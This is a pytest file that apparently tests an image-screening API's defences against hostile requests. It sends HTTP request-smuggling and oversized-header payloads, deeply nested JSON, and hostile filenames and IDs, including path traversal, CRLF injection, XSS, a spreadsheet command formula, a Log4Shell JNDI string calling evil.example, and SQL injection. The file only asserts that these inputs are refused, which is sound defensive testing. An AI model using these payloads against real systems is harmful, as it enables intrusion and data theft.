"""What an attacker sends instead of a request: each is refused whole, costs little, and the next upload works."""

import json
import re
import socket
from collections.abc import Iterator
from contextlib import suppress

import httpx
import psutil
import pytest
from sqlalchemy.orm import Session, sessionmaker

from screening.settings import MEBIBYTE, Settings
from screening.tables import Submission
from tests import pictures
from tests.problems import assert_problem
from tests.server import ApiServer

Sessions = sessionmaker[Session]
URL = "/v1/screenings"
EVIL = "evil.example"


@pytest.fixture
def http(server: ApiServer, api_key: str) -> Iterator[httpx.Client]:
    headers = {"Authorization": f"Bearer {api_key}"}
    with httpx.Client(base_url=server.url, headers=headers, timeout=30) as made:
        yield made
        # Whatever was sent before, the next upload works.
        assert made.post(URL, files={"image": ("a.jpg", pictures.jpeg())}).status_code == 202


def answers_of(connection: socket.socket) -> bytes:
    """All that comes until the server closes."""
    raw = b""
    with suppress(ConnectionResetError):
        while data := connection.recv(65536):
            raw += data
    return raw


# A front that divides the bytes in another way than we do would take the second request for somebody else's.
SECOND = b"GET /v1/screenings HTTP/1.1\r\nHost: x\r\n\r\n"
AMBIGUOUS = {
    "both lengths": b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(SECOND)) + SECOND,
    "two lengths": b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(SECOND) + SECOND,
    "a list of lengths": b"Content-Length: 0, %d\r\n\r\n" % len(SECOND) + SECOND,
    "a signed length": b"Content-Length: +%d\r\n\r\n" % len(SECOND) + SECOND,
    "a hexadecimal length": b"Content-Length: 0x10\r\n\r\n" + SECOND,
    "a length in pieces": b"Content-Length: 1 0\r\n\r\n" + SECOND,
    "an endless length": b"Content-Length: 99999999999999999999999\r\n\r\n" + SECOND,
    "chunked twice": b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "chunked not last": b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + SECOND,
    "nearly chunked": b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SECOND,
    "a space before the colon": b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "a folded line": b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "a chunk of negative size": b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + SECOND,
    "a chunk larger than numbers": b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n\r\n" + SECOND,
    "a chunk that is longer than it says": b"Transfer-Encoding: chunked\r\n\r\n1\r\nabc\r\n0\r\n\r\n" + SECOND,
    "a bare line feed after a size": b"Transfer-Encoding: chunked\r\n\r\n1;a\nb\r\nc\r\n0\r\n\r\n" + SECOND,
    "a NUL in a header": b"X: a\x00b\r\n\r\n" + SECOND,
    "a carriage return in a header": b"X: a\rContent-Length: 5\r\n\r\n" + SECOND,
}


def test_what_could_be_divided_in_two_ways_is_refused_whole(
    server: ApiServer, api_key: str, http: httpx.Client, subtests: pytest.Subtests
) -> None:
    for name, rest in AMBIGUOUS.items():
        with subtests.test(name), server.connect(10) as connection:
            connection.sendall(
                b"POST /v1/screenings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + api_key.encode() + b"\r\n" + rest
            )
            connection.shutdown(socket.SHUT_WR)
            raw = answers_of(connection)
            assert re.findall(rb"HTTP/1\.1 (\d)", raw) in ([b"4"], []), raw


ENDLESS = {
    "a header": (b"GET /livez HTTP/1.1\r\nHost: x\r\nX: ", b"a" * 65536),
    "headers": (b"GET /livez HTTP/1.1\r\nHost: x\r\n", b"X-Name: value\r\n" * 4096),
    "a path": (b"GET /", b"a" * 65536),
    "a method": (b"", b"G" * 65536),
    "a chunk's extension": (
        b"POST /v1/screenings HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1;",
        b"a" * 65536,
    ),
    "trailers": (
        b"POST /v1/screenings HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n",
        b"X-Name: value\r\n" * 4096,
    ),
}


def test_what_is_no_body_and_never_ends_is_cut_off(
    server: ApiServer, http: httpx.Client, subtests: pytest.Subtests
) -> None:
    """Only bodies may be large: they go to disk. All else lies in memory, and nobody has shown a key yet."""
    for name, (begin, more) in ENDLESS.items():
        with subtests.test(name), server.connect(10) as connection:
            connection.sendall(begin)
            sent = 0
            with suppress(BrokenPipeError, ConnectionResetError):
                while sent < 64 * MEBIBYTE:
                    sent += connection.send(more)
            assert sent < 8 * MEBIBYTE  # what lay in the system's buffers, and no more
    assert psutil.Process(server.pid).memory_info().rss < 400 * MEBIBYTE


def test_too_large_a_head_is_told_so(server: ApiServer) -> None:
    with server.connect(10) as connection:
        connection.sendall(b"GET /livez HTTP/1.1\r\nHost: x\r\n" + b"X-Name: value\r\n" * 6_000)
        raw = answers_of(connection)
    assert raw.startswith(b"HTTP/1.1 431 "), raw[:200]
    top, _, body = raw.partition(b"\r\n\r\n")
    assert b"content-type: application/problem+json" in top
    assert json.loads(body)["code"] == "head_too_large"


def test_no_answer_repeats_a_host_that_the_client_made_up(http: httpx.Client, subtests: pytest.Subtests) -> None:
    """Caches and links in mails would carry it further."""
    names = {"Host": EVIL, "X-Forwarded-Host": EVIL, "X-Forwarded-Proto": "https", "Forwarded": f"host={EVIL}"}
    for path in (URL, f"{URL}/", f"{URL}/scr_1/", "/", "/sign-in", "/openapi.json", f"//{EVIL}/v1", "/readyz/"):
        with subtests.test(path):
            answer = http.get(path, headers=names)
            assert answer.status_code < 500
            assert EVIL not in answer.headers.get("location", "")
            if not path.startswith("//"):  # whose problem document names the path
                assert EVIL not in answer.text


DEEP = 30_000
NOT_TO_BE_READ = {
    "arrays in arrays": b"[" * DEEP + b"]" * DEEP,
    "objects in objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "deep metadata": b'{"source": {"url": "https://example.com/a"}, "metadata": {"a": '
    + b"[" * 1900
    + b"]" * 1900
    + b"}}",
    "an endless number": b'{"source": {"url": "https://example.com/a"}, "metadata": {"a": ' + b"9" * 20_000 + b"}}",
    "infinity": b'{"source": {"url": "https://example.com/a"}, "metadata": {"a": 1e999}}',
    "not a number": b'{"source": {"url": "https://example.com/a"}, "metadata": {"a": NaN}}',
    "half a character": b'{"source": {"url": "https://example.com/a"}, "metadata": {"a": "\\ud800"}}',
    "half a character as a key": b'{"source": {"url": "https://example.com/a"}, "metadata": {"\\udfff": 1}}',
    "NUL": b'{"source": {"url": "https://example.com/a"}, "metadata": {"a": "\\u0000"}}',
    "half a character as a reference": b'{"source": {"url": "https://example.com/a"}, "client_ref": "\\ud800"}',
    "no UTF-8": b'{"source": {"url": "https://example.com/\xff"}}',
}


def test_json_that_harms_its_readers_is_refused(http: httpx.Client, subtests: pytest.Subtests) -> None:
    for name, body in NOT_TO_BE_READ.items():
        for path in (URL, "/v1/webhook-endpoints", "/v1/policy/backtest"):
            with subtests.test(f"{name} {path}"):
                answer = http.post(path, content=body, headers={"Content-Type": "application/json"})
                assert answer.status_code in (400, 413, 422), answer.text
                assert answer.headers["content-type"] == "application/problem+json"


NAMES = [
    'a"; filename="b.jpg', "../../../../etc/passwd", "..\\..\\boot.ini", "a\r\nSet-Cookie: a=b",
    "a\x00.jpg", "\u202egpj.exe",
    "<script>alert(1)</script>.jpg", "a" * 300, "=cmd|' /C calc'!A0", "${jndi:ldap://evil.example/a}",
]  # fmt: skip


def test_a_filename_is_a_word_and_nothing_more(
    http: httpx.Client, settings: Settings, sessions: Sessions, subtests: pytest.Subtests
) -> None:
    for name in NAMES:
        with subtests.test(name[:30]):
            answer = http.post(URL, files={"image": (name, pictures.jpeg())})
            assert answer.status_code == 202, answer.text
            assert "set-cookie" not in answer.headers
            image = http.get(answer.json()["links"]["image"])
            assert (image.status_code, image.headers["content-type"]) == (200, "image/jpeg")
            assert image.headers["x-content-type-options"] == "nosniff"
            assert image.headers["cache-control"] == "private, no-cache"
            assert "default-src 'none'" in image.headers["content-security-policy"]
            assert not {"set-cookie", "content-disposition"} & set(image.headers)
    with sessions() as session:
        kept = [row.filename or "" for row in session.query(Submission)]
    assert len(kept) == len(NAMES)
    assert max(map(len, kept)) <= 255
    assert not [name for name in kept if "\0" in name]


def test_a_part_with_a_large_head_is_refused(server: ApiServer, api_key: str) -> None:
    body = b'--x\r\nContent-Disposition: form-data; name="image"; filename="' + b"a" * MEBIBYTE
    answer = httpx.post(
        server.url + URL,
        content=body + b'"\r\n\r\n\r\n--x--\r\n',
        headers={"Authorization": f"Bearer {api_key}", "Content-Type": "multipart/form-data; boundary=x"},
    )
    assert_problem(answer, 400, "malformed_request")


def test_a_range_or_a_condition_never_gives_less_than_the_whole_or_nothing(http: httpx.Client) -> None:
    data = pictures.jpeg()
    link = http.post(URL, files={"image": ("a.jpg", data)}).json()["links"]["image"]
    tag = http.get(link).headers["etag"]
    for given in ("bytes=0-0", "bytes=" + ",".join("0-" for _ in range(2000)), "bytes=-1", "bytes=5-1", "lines=1-2"):
        answer = http.get(link, headers={"Range": given})
        assert (answer.status_code, answer.content) == (200, data)
    for given in (tag, f"W/{tag}", f'"x", {tag}', "*"):
        answer = http.get(link, headers={"If-None-Match": given})
        assert (answer.status_code, answer.content, answer.headers["etag"]) == (304, b"", tag)
    assert http.get(link, headers={"If-None-Match": tag.strip('"')}).status_code == 200


def test_paths_that_are_no_ids_are_not_found(http: httpx.Client, subtests: pytest.Subtests) -> None:
    for id in ("%00", "%2e%2e", "..%2f..%2fetc", "scr_%ff", "scr_" + "0" * 5000, "scr_*", "' OR 1=1--", "%25n", "😀"):
        with subtests.test(id[:20]):
            for part in ("", "/image", "/mask", "/overlay"):
                assert_problem(http.get(f"{URL}/{id}{part}"), 404, "not_found")
